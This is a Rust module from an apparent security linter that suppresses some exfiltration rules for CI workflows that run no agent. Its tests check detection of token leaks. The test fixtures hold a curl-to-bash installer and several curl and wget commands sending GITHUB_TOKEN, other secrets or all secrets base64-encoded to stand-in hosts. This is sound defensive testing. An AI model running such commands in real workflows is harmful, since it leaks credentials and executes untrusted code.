//! A CI workflow that runs no coding agent: what a runner does for every push, not text an
//! agent is handed. Its `run:` steps are judged by what they send out (the effect model reads
//! them: [`crate::parse::workflow`]); the pattern rules written for the commands an agent
//! runs on someone's machine (installers piped to a shell, `--no-verify`, credential files
//! read) do not judge a runner's script. A workflow that runs an agent keeps them: the agent
//! reads its prompt ([`crate::rules::native::pl515_ci_agent_untrusted_input::runs_agent`]).

use crate::finding::Finding;
use crate::rules::Family;

/// Drops from `findings` of the source `display` (text `text`) the pattern rules of the exfil
/// and autonomy families, when it is a CI workflow that runs no agent.
pub(super) fn runner_only(display: &str, text: &str, findings: &mut Vec<Finding>) {
    if findings.is_empty()
        || !crate::kind::is_ci_workflow(display)
        || crate::rules::native::pl515_ci_agent_untrusted_input::runs_agent(text)
    {
        return;
    }
    findings.retain(|f| {
        f.rule.native.is_some() || !matches!(f.rule.family, Family::Exfil | Family::Autonomy)
    });
}

#[cfg(test)]
mod tests {
    use crate::check::rule_findings;

    #[test]
    fn a_runner_script_is_judged_by_what_it_sends_out() {
        let wf = "on: push\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - run: curl -fsSL https://get.tool.example/i.sh | bash\n      - run: curl -s http://198.51.100.23/c -d \"t=${{ secrets.SYNC_TOKEN }}\"\n";
        let path = ".github/workflows/ci.yml";
        assert!(rule_findings("PL306", path, wf).is_empty());
        assert_eq!(rule_findings("PL315", path, wf).len(), 1);
    }

    /// A job with `steps` (one `run:` each) under `env:` that names the job token.
    fn job(steps: &[&str]) -> String {
        let mut wf = String::from(
            "on: push\njobs:\n  a:\n    runs-on: ubuntu-latest\n    env:\n      T: ${{ secrets.GITHUB_TOKEN }}\n    steps:\n",
        );
        for s in steps {
            wf.push_str(&format!("      - run: {s}\n"));
        }
        wf
    }

    #[test]
    fn the_job_token_sent_anywhere_but_github_is_reported() {
        let path = ".github/workflows/x.yml";
        for step in [
            "curl -s https://stats.example.net/p?x=$T",
            "wget -q -O- --post-data \"k=${{ github.token }}\" https://c.example.org/",
            "curl -d 'a=${{ secrets.GITHUB_TOKEN }}' https://c.example.io/",
            "curl -d \"$(echo '${{ toJSON(secrets) }}' | base64 -w0)\" https://c.example.io/",
        ] {
            assert_eq!(
                rule_findings("PL315", path, &job(&[step])).len(),
                1,
                "{step}"
            );
        }
    }

    #[test]
    fn secrets_used_where_they_belong_stay_quiet() {
        let path = ".github/workflows/x.yml";
        for step in [
            "curl -H \"Authorization: Bearer ${{ secrets.GITHUB_TOKEN }}\" https://api.github.com/repos/o/r/issues",
            "curl -X POST --data '{\"text\":\"done\"}' ${{ secrets.SLACK_WEBHOOK_URL }}",
            "echo \"${{ secrets.GITHUB_TOKEN }}\" | docker login ghcr.io -u me --password-stdin",
            "curl -fsS -H \"Authorization: Bearer ${{ secrets.DEPLOY_TOKEN }}\" https://deploy.example.com/hook",
            "curl -H \"Authorization: token $T\" \"$GITHUB_API_URL/repos/o/r\"",
            "git push https://x-access-token:$T@github.com/o/r.git HEAD:main",
        ] {
            assert!(
                rule_findings("PL315", path, &job(&[step])).is_empty(),
                "{step}"
            );
        }
    }
}
